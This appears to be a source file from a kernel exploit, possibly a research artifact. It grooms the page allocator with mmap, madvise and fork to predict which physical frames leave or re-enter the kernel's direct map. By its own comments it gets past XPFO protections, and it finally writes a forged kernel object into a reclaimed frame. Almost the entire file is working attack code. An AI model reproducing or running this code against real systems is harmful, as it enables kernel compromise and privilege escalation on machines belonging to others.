/*
 * Frames that go to a program: which one comes next, and is in the direct map until then. An
 * attacker needs no more than the numbers of the frames that it has.
 *
 * The frame freed last is handed out first, unless it joins its neighbour; so who has both of two
 * neighbours and gives the upper one back gets that one next. It is tried with 4 KiB pages first.
 *
 * 2 MiB pages come from halves of 4 MiB blocks. Who has both halves of one and gives the upper one
 * back gets that one next: it cannot join its neighbour. Most variants of XPFO put what is given
 * back into the direct map. With the others, where two pages were the halves of one block, no half
 * was left over; so the next page, if it is a lower half, comes from a block that was whole until
 * then, and its upper half, which the kernel has, is what the page after it will get.
 */
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "memory.h"

enum {
	FRAMES_PER_HUGE = BW_HUGE_PAGE_SIZE / BW_PAGE_SIZE,
	FRAMES_PER_BLOCK = 2 * FRAMES_PER_HUGE,
	CHOSEN_FRAMES = 300, /* any but the first ones: from here on */
	CHOSEN_STEP = 13,
	SHARE_LEFT = 8,
	SHARE_KEPT = 32,
	HALVES_MAX = 16,
	NR_SMALL = 16,
	NR_REHEARSALS = 2,
	REVEALED_WANTED = 6 * FRAMES_PER_BLOCK,
	TABLES_PER_LOOK = 64,
};

struct huge_page {
	void *address;
	uint64_t pfn;
	bool was_revealed; /* it came out of the direct map for this */
};

/*
 * Page tables come out of the direct map, and go back there. For those of pages that are given back
 * at once the kernel takes hidden frames, too, when it has no others.
 */
static void take_tables(struct bw_memory_info info)
{
	uint64_t nr_wanted = info.nr_free_revealed + REVEALED_WANTED;
	char *page = mmap(NULL, nr_wanted * BW_HUGE_PAGE_SIZE, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	while (page != MAP_FAILED && nr_wanted-- > 0 &&
	       info.nr_free_revealed + info.nr_free_hidden > info.nr_frames_usable / SHARE_KEPT) {
		*(volatile char *)page = 0;
		madvise(page, BW_PAGE_SIZE, MADV_DONTNEED);
		page += BW_HUGE_PAGE_SIZE;
		if (nr_wanted % TABLES_PER_LOOK == 0) {
			info = memory_now();
		}
	}
}

void attack_frames_reveal(void)
{
	struct bw_memory_info info = memory_now();

	if (info.nr_free_revealed >= REVEALED_WANTED || info.nr_free_hidden < FRAMES_PER_BLOCK) {
		return;
	}
	/* tables are freed with the address space */
	if (fork() == 0) {
		take_tables(info);
		_exit(0);
	}
	wait(NULL);
}

/* So many that the pages still to come will be found, and nobody else goes without. */
static bool enough_is_revealed(void)
{
	struct bw_memory_info info = memory_now();

	return info.nr_free_revealed > 3 * FRAMES_PER_BLOCK &&
	       info.nr_free_revealed + info.nr_free_hidden > info.nr_frames_usable / SHARE_LEFT;
}

static struct huge_page huge_page_take(void)
{
	uint64_t before = memory_now().nr_free_revealed;
	struct huge_page page = { .address = attack_huge_page() };

	page.pfn = attack_pfn(page.address);
	page.was_revealed = memory_now().nr_free_revealed + FRAMES_PER_HUGE <= before;
	return page;
}

/* Another one in each try: in an emulator's TLB an entry has one place, which a page of the kernel
 * may have, too. */
static void choose(const struct bw_leak *leak, uint64_t first_pfn, struct attack_frame *frame)
{
	frame->pfn = first_pfn + CHOSEN_FRAMES +
		     (uint64_t)getpid() * CHOSEN_STEP % (FRAMES_PER_HUGE - CHOSEN_FRAMES);
	frame->synonym = leak->direct_map_base + frame->pfn * BW_PAGE_SIZE;
	frame->is_small = false;
}

static bool is_lower_half(uint64_t pfn) { return pfn % FRAMES_PER_BLOCK == 0; }

static bool are_halves(const struct huge_page *lower, const struct huge_page *upper)
{
	return lower->address && is_lower_half(lower->pfn) &&
	       upper->pfn == lower->pfn + FRAMES_PER_HUGE;
}

/* True where the one before the latest completed a block, and the latest began one. */
static bool is_block_begun(const struct huge_page latest[3])
{
	for (int i = 0; i < 3; i++) {
		if (!latest[i].was_revealed) {
			return false;
		}
	}
	return are_halves(&latest[0], &latest[1]) && is_lower_half(latest[2].pfn);
}

/* With variants that leave hidden what user space had. False: hardly anything else is left. */
static bool predict_kernels(const struct bw_leak *leak, struct attack_frame *frame)
{
	struct huge_page latest[3] = { { 0 } };

	do {
		latest[0] = latest[1];
		latest[1] = latest[2];
		latest[2] = huge_page_take();
		if (is_block_begun(latest)) {
			choose(leak, latest[2].pfn + FRAMES_PER_HUGE, frame);
			attack_say("frame 0x%lx is the kernel's, and will be ours next",
				   frame->pfn);
			return true;
		}
	} while (enough_is_revealed());
	return false;
}

/* Pages that were given back: the first one last, which is the one that matters. */
static char *given[NR_SMALL];
static size_t nr_given;

static bool is_among(char *pages, uint64_t pfn)
{
	for (size_t i = 0; i < NR_SMALL; i++) {
		if (attack_pfn(pages + i * BW_PAGE_SIZE) == pfn) {
			return true;
		}
	}
	return false;
}

/* Those whose frame is the upper one of two neighbours, of which the lower one is ours, too. */
static void choose_uppers(char *pages)
{
	nr_given = 0;
	for (size_t i = 0; i < NR_SMALL; i++) {
		char *page = pages + i * BW_PAGE_SIZE;

		if (attack_pfn(page) % 2 == 1 && is_among(pages, attack_pfn(page) - 1)) {
			given[nr_given++] = page;
		}
	}
}

/* True where there is one frame more in the direct map. */
static bool page_release(char *page)
{
	uint64_t before = memory_now().nr_free_revealed;

	madvise(page, BW_PAGE_SIZE, MADV_DONTNEED);
	return memory_now().nr_free_revealed > before;
}

static bool page_gets(char *page, uint64_t pfn)
{
	*(volatile char *)page = 0;
	return attack_pfn(page) == pfn;
}

/* What others need meanwhile comes from the frames that were given back behind it. */
static void *small_take(uint64_t pfn)
{
	while (nr_given > 0) {
		nr_given--;
		if (page_gets(given[nr_given], pfn)) {
			return given[nr_given];
		}
	}
	return NULL;
}

bool attack_frame_give_small(const struct bw_leak *leak, struct attack_frame *frame)
{
	uint64_t pfn;

	choose_uppers(attack_pages(NR_SMALL * BW_PAGE_SIZE));
	if (nr_given < NR_SMALL / 4) {
		return false;
	}
	pfn = attack_pfn(given[0]);
	for (int i = 0; i < NR_REHEARSALS; i++) {
		if (!page_release(given[0]) || !page_gets(given[0], pfn)) {
			return false;
		}
	}
	*frame = (struct attack_frame){ pfn, leak->direct_map_base + pfn * BW_PAGE_SIZE, true };
	attack_say("frame 0x%lx was ours, is free, and will be ours again", pfn);
	for (size_t i = 0; i < nr_given; i++) {
		page_release(given[i]);
	}
	return true;
}

void attack_frame_find(const struct bw_leak *leak, struct attack_frame *frame)
{
	if (!attack_frame_give_small(leak, frame)) {
		attack_frame_predict(leak, frame);
	}
}

/* Does what is given back go into the direct map? */
static bool is_shown_again(void) { return page_release(attack_pages(BW_PAGE_SIZE)); }

void attack_frame_predict(const struct bw_leak *leak, struct attack_frame *frame)
{
	struct huge_page lower, upper = { 0 };
	int nr = 0;

	if (!is_shown_again() && predict_kernels(leak, frame)) {
		return;
	}
	do {
		lower = upper;
		upper = huge_page_take();
	} while (!are_halves(&lower, &upper) && ++nr < HALVES_MAX);
	choose(leak, upper.pfn, frame);
	munmap(upper.address, BW_HUGE_PAGE_SIZE);
	attack_say("frame 0x%lx was ours, is free, and will be ours again", frame->pfn);
}

void *attack_frame_take(const struct attack_frame *frame)
{
	uint64_t first;
	char *page;

	if (frame->is_small) {
		return small_take(frame->pfn);
	}
	page = attack_huge_page();
	first = attack_pfn(page);
	if (frame->pfn < first || frame->pfn >= first + FRAMES_PER_HUGE) {
		return NULL;
	}
	return page + (frame->pfn - first) * BW_PAGE_SIZE;
}

bool attack_frame_forge(const struct bw_leak *leak, const struct attack_frame *frame)
{
	void *page = attack_frame_take(frame);

	if (page == NULL) {
		return false;
	}
	payload_object(page, frame->synonym, leak);
	attack_say("it is ours now, with a forged object in it");
	return true;
}
